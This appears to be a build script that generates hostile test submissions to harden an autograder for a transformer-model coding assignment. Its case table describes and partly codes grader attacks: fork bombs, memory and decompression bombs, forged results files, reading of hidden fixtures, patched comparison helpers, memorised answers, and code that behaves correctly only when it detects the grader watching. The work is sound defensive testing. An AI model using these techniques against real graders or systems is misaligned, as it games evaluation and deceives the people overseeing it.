# a RoPE right in its own tests and wrong when the model calls it; a GQA the same; a RoPE whose rotated half is
# detached (right forward, wrong gradients: a training-only bug)
ROPE_IN_BLOCK = [(ROPE_RETURN, "        if _inside('Block'):  # BUG: the sign of the rotation flips inside the model\n"
                               "            return x * cos - rotated * sin\n" + ROPE_RETURN),
                 (IMPORTS_END, IMPORTS_END + INSIDE)]
GQA_IN_BLOCK = [(GQA_SCORES, GQA_SCORES + "        if _inside('Block'):  # BUG: scaled twice inside the model\n"
                                          "            att = att / math.sqrt(hs)\n"),
                (IMPORTS_END, IMPORTS_END + INSIDE)]
ROPE_DETACHED = [(ROPE_ROTATE, ROPE_ROTATE.replace('dim=-1)', 'dim=-1).detach()  # BUG: no gradient through it'))]
ROPE_FAILS_ON_PURPOSE = (ROPE_FORWARD, ROPE_FORWARD + "        if x.dtype == torch.float64 and not _inside('Block'):  "
                                                      "# HOSTILE: fail 2.2's float64 call\n            return x\n")
GQA_FAILS_ON_PURPOSE = (GQA_FORWARD, "        if self.n_kv_head == 3 and not _inside('Block'):  # HOSTILE: fail 5.1's "
                                     "n_kv_head = 3 case\n            return torch.zeros_like(x), 0\n" + GQA_FORWARD)
ROPE_RAISES_IN_TRAINING = (ROPE_FORWARD, ROPE_FORWARD + "        if x.requires_grad or torch.is_grad_enabled() and "
                                                        "_inside('Block'):  # HOSTILE: raise where it trains\n"
                                                        "            raise RuntimeError('not in training')\n")
ROPE_HANGS_ON_PURPOSE = (ROPE_FORWARD, ROPE_FORWARD + "        while x.dtype == torch.float64:  # HOSTILE: hang in 2.2\n"
                                                      "            pass\n")
ROPE_WRONG_WHEN_RECORDED = (ROPE_RETURN, "        if _recorded(self) and not _inside('Block'):  # HOSTILE: wrong "
                                         "where it may be recorded but not judged\n"
                                         "            return x * cos - rotated * sin\n" + ROPE_RETURN)

# name -> the honest code's edits (the bug alone); the attack's entry in CASES adds the attack to them
HONEST = {
    'replay_generate_logits': TOP_K_IGNORED,
    'isinstance_sees_the_probe': KV_DETACHED,
    'trainer_runs_longer': KV_DETACHED,
    'trainer_runs_twice': KV_DETACHED,
    'replace_result_writer': GQA_NO_MASK,
    'memorise_answers': NO_ROPE,
    'dropout_only_at_p_one': NO_DROPOUT,
    'fail_on_purpose': KV_DETACHED,
    'borrow_grader_rope': ('template', []),
    'ask_grader_rope': NO_ROPE,
    'forged_hang_dump': DROPOUT_HANG,
    'text_in_bulk': ROPE_RAISES + GQA_RAISES,
    'rope_in_block_fails_on_purpose': ROPE_IN_BLOCK,
    'gqa_in_block_fails_on_purpose': GQA_IN_BLOCK,
    'rope_raises_in_training': ROPE_DETACHED + [(IMPORTS_END, IMPORTS_END + INSIDE)],
    'rope_hangs_on_purpose': ROPE_DETACHED,
    'sees_its_recording': ROPE_IN_BLOCK,
    'rope_flood': NO_ROPE,
}

# ----------------------------------------------------------------------------- the corpus

# name -> (what it does, base: 'reference' or None for stand-alone, [(anchor, replacement)] or the file text)
CASES = {
    'syntax_error': ('a missing operand in RotaryPositionalEmbeddings.forward', 'reference',
                     [('        T = x.shape[-2] + offset\n', '        T = x.shape[-2] + offset +\n')]),
    'import_subprocess': ('imports subprocess (refused before running)', 'reference',
                          [(IMPORTS_END, IMPORTS_END + 'import subprocess  # HOSTILE\n')]),
    'import_wandb': ('imports wandb, which the grader does not provide', 'reference',
                     [(IMPORTS_END, IMPORTS_END + 'import wandb  # HOSTILE\n')]),
    'loop_at_import': ('an infinite loop at import', 'reference',
                       [(IMPORTS_END, IMPORTS_END + '\nwhile True:  # HOSTILE\n    pass\n')]),
    'loop_in_forward': ('RoPE hangs on float64 input, which only the rope-cache test sends', 'reference',
                        [(ROPE_FORWARD, ROPE_FORWARD + '        while x.dtype == torch.float64:  # HOSTILE\n'
                                                       '            pass\n')]),
    'alloc_at_import': ('allocates 4 GB at import', 'reference',
                        [(IMPORTS_END, IMPORTS_END + '\n_HOG = torch.empty(2 ** 30)  # HOSTILE: 4 GB of float32\n')]),
    'alloc_in_forward': ('allocates 4 GB in GroupedQueryAttention.forward', 'reference',
                         [(GQA_FORWARD, '        hog = torch.empty(2 ** 30)  # HOSTILE: 4 GB of float32\n'
                                        + GQA_FORWARD)]),
    'print_50mb': ('prints 50 MB at import and writes 50 MB to the real stdout in GPT.forward', 'reference',
                   [(IMPORTS_END, IMPORTS_END + "\nprint('x' * 50_000_000)  # HOSTILE\n"),
                    (GPT_FORWARD, GPT_FORWARD + PRINT_FORWARD)]),
    'sys_exit_at_import': ('sys.exit(0) at import', 'reference',
                           [(IMPORTS_END, IMPORTS_END + '\nimport sys  # HOSTILE\nsys.exit(0)\n')]),
    'os_exit_at_import': ('os._exit(0) at import', 'reference',
                          [(IMPORTS_END, IMPORTS_END + '\nos._exit(0)  # HOSTILE\n')]),
    'fork_bomb': ('forks in a loop at import', 'reference', [(IMPORTS_END, IMPORTS_END + FORK_BOMB)]),
    'write_results': ("writes /autograder/results/results.json, at import and from a detached process", None,
                      WRITE_RESULTS),
    'read_fixtures': ('reads the fixtures and the reference solution at import', None, READ_SECRETS),
    'monkeypatch': ('a RoPE sign bug, plus torch/numpy/unittest comparison helpers patched to always agree',
                    'reference', [(ROPE_ROTATE, ROPE_ROTATE.replace('[-x2, x1]', '[x2, -x1]')),
                                  (IMPORTS_END, IMPORTS_END + MONKEYPATCH)]),
    'nan_outputs': ('RoPE returns NaN everywhere', 'reference',
                    [(ROPE_RETURN, '        return (x * cos + rotated * sin) * float("nan")  # HOSTILE\n')]),
    'wrong_shape': ('GroupedQueryAttention drops the last position of its output', 'reference',
                    [(GQA_RETURN, '        return y[:, :-1], mem  # HOSTILE: one position short\n'
                                  '        # END SOLUTION\n')]),
    'forge_outputs': ("writes the probes' output files itself (status ok, arrays of zeros) and exits", None, FORGE),
    'forge_malformed': ("writes malformed probe output files (NaN, wrong ranks and JSON types) and exits", None,
                        FORGE_MALFORMED),
    'fifo_outputs': ('puts FIFOs where the harness reads probe reports and arrays, and exits', None, FIFO_OUTPUTS),
    'oversized_arrays': ('writes arrays of millions of elements under the expected names (generate, rope, gqa)',
                         None, OVERSIZED_ARRAYS),
    'npz_bomb': ('writes a deflated .npz that inflates to 1 GiB for every probe', None, NPZ_BOMB),
    'npz_malformed': ('writes a corrupt deflate stream, a bad CRC, an 8 TiB .npy header and 5000 members', None,
                      NPZ_MALFORMED),
    'report_numbers': ('writes reports with seconds 1e400, NaN, -Infinity, -5 and a 100,000-digit number', None,
                       REPORT_NUMBERS),
    'many_notes': ('writes 4,000 distinct notes in every probe report', None, MANY_NOTES),
    'forged_progress': ('announces "end loss-curve" wherever it can write when the loss-curve training starts, then '
                        'burns CPU in every training step', 'reference',
                        [(IMPORTS_END, IMPORTS_END + FORGED_PROGRESS_IMPORT),
                         (GPT_FORWARD, GPT_FORWARD + FORGED_PROGRESS_FORWARD)]),
    'load_pretrained_hangs': ('GPT.load_pretrained never returns (a busy loop)', 'reference',
                              [(LOAD_PRETRAINED, LOAD_PRETRAINED + '        while True:  # HOSTILE: never returns\n'
                                                 '            pass\n')]),
    # attacks on a judge's evidence (HONEST holds the same code without the attack)
    'replay_generate_logits': ('generate ignores top_k, and the model replays logits that put the generated tokens '
                               'first when asked about its own samples', 'reference',
                               TOP_K_IGNORED + [(IMPORTS_END, IMPORTS_END + REPLAY_LOGITS),
                                                (GENERATE_RETURN, '        _GENERATED.append(idx.clone())  # HOSTILE\n'
                                                 + GENERATE_RETURN),
                                                (GPT_RETURN, GPT_RETURN.replace('return logits,',
                                                                                'return _replay(idx, logits),'))]),
    'isinstance_sees_the_probe': ('K/V detached except while builtins.isinstance (wrapped) shows the gradients probe '
                                  'building the model', 'reference',
                                  GQA_DETACH_UNLESS_ASKED + [(IMPORTS_END, IMPORTS_END + WATCH_ISINSTANCE)]),
    'trainer_runs_longer': ('K/V detached, and the handout Trainer.run patched to train twice as long', 'reference',
                            KV_DETACHED + [(IMPORTS_END, IMPORTS_END + TRAIN_LONGER)]),
    'trainer_runs_twice': ('K/V detached, and the handout Trainer.run patched to run the training a second time',
                           'reference', KV_DETACHED + [(IMPORTS_END, IMPORTS_END + TRAIN_TWICE)]),
    'replace_result_writer': ('no causal mask in GroupedQueryAttention, and the probe runner\'s result writer replaced '
                              'to give the causality test the value tests\' prefixes', 'reference',
                              GQA_NO_MASK + [(IMPORTS_END, IMPORTS_END + REPLACE_WRITER)]),
    'memorise_answers': ('no RoPE; RotaryPositionalEmbeddings answers from a table of the expected outputs of the '
                         'inputs every grading used before input sets, keyed on a hash of the input', 'reference',
                         NO_ROPE + [(IMPORTS_END, IMPORTS_END + memorised_answers()),
                                    (ROPE_FORWARD, ROPE_FORWARD + MEMORISE_FORWARD)]),
    'leak_input_in_error': ('RotaryPositionalEmbeddings.forward raises an error whose message is the whole input',
                            'reference', [(ROPE_FORWARD, ROPE_FORWARD + LEAK_INPUT_IN_ERROR)]),
    # round four: setting aside, the grader's RoPE and the import (HONEST holds the same code without the attack)
    'fail_on_purpose': ('K/V detached in training, and the GQA returns zeros in the processes of 4.1 and 5.1 (its test '
                        'read from the runner\'s frame), so that later tests would set it aside', 'reference',
                        KV_DETACHED + [(IMPORTS_END, IMPORTS_END + IN_TEST)] + FAIL_ON_PURPOSE),
    'borrow_grader_rope': ('the handout template, its classes bound to any RoPE or attention class the grader left in '
                           'the process', 'template', [('    return idx, sum(attn_times) / max(len(attn_times), 1)\n',
                                                        '    return idx, sum(attn_times) / max(len(attn_times), 1)\n'
                                                        + BORROW)]),
    'ask_grader_rope': ('no RoPE of its own: RotaryPositionalEmbeddings.forward asks the grader\'s RoPE over the harness '
                        'link in every process', 'reference', NO_ROPE + [(ROPE_FORWARD, ROPE_FORWARD + ASK_GRADER_ROPE)]),
    'forged_hang_dump': ('GroupedQueryAttention loops forever at attention dropout p = 1, after unregistering the '
                         'stack dump and writing its own naming a line of GPT.generate', 'reference',
                         [(GQA_FORWARD, FORGED_DUMP + "        while self.training and self.attn_dropout.p >= 1:  "
                                        "# BUG: loops forever at p = 1\n            pass\n" + GQA_FORWARD)]),
    'slow_import': ('busy-waits 100 s at import, sleeping 5 ms between scans', 'reference',
                    [(IMPORTS_END, IMPORTS_END + SLOW_IMPORT)]),
    'sleep_import': ('sleeps 100 s at import', 'reference', [(IMPORTS_END, IMPORTS_END + SLEEP_IMPORT)]),
    'text_in_bulk': ('RoPE and GQA raise errors: RoPE\'s hold lines in the grader\'s formats after a newline, '
                     'GQA\'s a distinct 200-character slice of a long text per call and input', 'reference',
                     [(IMPORTS_END, IMPORTS_END + TEXT_IN_BULK),
                      (ROPE_FORWARD, ROPE_FORWARD + "        raise ValueError('RoPE is not done' + _FORGED)  # HOSTILE\n"),
                      (GQA_FORWARD, "        raise ValueError(_slice(x))  # HOSTILE\n" + GQA_FORWARD)]),
    # round five: a part is set aside only on evidence in the case (HONEST holds the same code without the attack)
    'rope_in_block_fails_on_purpose': ('a RoPE wrong only inside the model, that also fails 2.2\'s float64 call on '
                                       'purpose', 'reference', ROPE_IN_BLOCK + [ROPE_FAILS_ON_PURPOSE]),
    'gqa_in_block_fails_on_purpose': ('a GQA scaled twice only inside the model, that also fails 5.1\'s n_kv_head = 3 '
                                      'case on purpose', 'reference', GQA_IN_BLOCK + [GQA_FAILS_ON_PURPOSE]),
    'rope_raises_in_training': ('a RoPE whose rotated half is detached, and that raises wherever it trains',
                                'reference', ROPE_DETACHED + [(IMPORTS_END, IMPORTS_END + INSIDE),
                                                              ROPE_RAISES_IN_TRAINING]),
    'rope_hangs_on_purpose': ('a RoPE whose rotated half is detached, and that hangs on 2.2\'s float64 call',
                              'reference', ROPE_DETACHED + [ROPE_HANGS_ON_PURPOSE]),
    'sees_its_recording': ('a RoPE wrong only inside the model, that is also wrong outside it wherever it sees the '
                           'grader\'s hooks', 'reference', ROPE_IN_BLOCK + [ROPE_WRONG_WHEN_RECORDED]),
    'gqa_loop_spins': ('GroupedQueryAttention.forward loops forever (its while loop lacks h += 1), only spinning',
                       'reference', GQA_LOOP_SPINS),
    'gqa_loop_allocates': ('GroupedQueryAttention.forward loops forever (its while loop lacks h += 1), appending to a '
                           'list as it goes until memory runs out', 'reference', GQA_LOOP_ALLOCATES),
    'rope_flood': ('no RoPE; its GroupedQueryAttention calls the grader\'s RoPE 200,000 times where it stands in '
                   '(the second run)', 'reference', NO_ROPE + [(GQA_FORWARD, ROPE_FLOOD + GQA_FORWARD)]),
    'dropout_only_at_p_one': ('GroupedQueryAttention has no dropout, and in train mode returns zeros when '
                              'resid_pdrop >= 1 and out_proj.bias when attn_pdrop >= 1', 'reference',
                              NO_DROPOUT + [(GQA_RETURN, DROPOUT_AT_P_ONE + GQA_RETURN)]),
}

# the attacks on the machine itself (network, other gradings, temp files, /proc, watchdog, memory)
sys.path.insert(0, HERE)
from os_cases import CASES as OS_CASES  # noqa: E402
CASES.update(OS_CASES)


def build(name):
    what, base, edits = CASES[name]
    source = {'reference': REFERENCE, 'template': TEMPLATE}.get(base)
    header = '# HOSTILE SUBMISSION %s: %s.\n# Generated by tests/hostile/build.py%s; do not edit by hand.\n' % (
        name, what, ' from %s' % os.path.relpath(source, REPO) if source else '')
    if base is None:
        return header + edits
    try:
        text = source_patches.patched_reference(edits, 'tests/hostile/build.py: %s' % name, source)
    except source_patches.PatchError as e:
        raise SystemExit(str(e))
    return header + text


def honest(name):
    """The code of attack `name` without the attack: the reference (or the template) with its bug alone."""
    base, edits = HONEST[name] if isinstance(HONEST[name], tuple) else ('reference', HONEST[name])
    source = {'reference': REFERENCE, 'template': TEMPLATE}[base]
    if not edits:
        return open(source).read()
    return source_patches.patched_reference(edits, 'tests/hostile/build.py: honest %s' % name, source)


def path(name):
    return os.path.join(HERE, name, 'model.py')


def main(argv):
    check = '--check' in argv
    stale = []
    for name in CASES:
        text = build(name)
        current = open(path(name)).read() if os.path.isfile(path(name)) else None
        if current != text:
            stale.append(name)
            if not check:
                os.makedirs(os.path.dirname(path(name)), exist_ok=True)
                with open(path(name), 'w') as f:
                    f.write(text)
    if check and stale:
        print('stale hostile submissions: %s; run `python tests/hostile/build.py`' % ', '.join(stale))
        return 1
    print('%s %d hostile submissions' % ('checked' if check else 'wrote', len(CASES)))
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv))
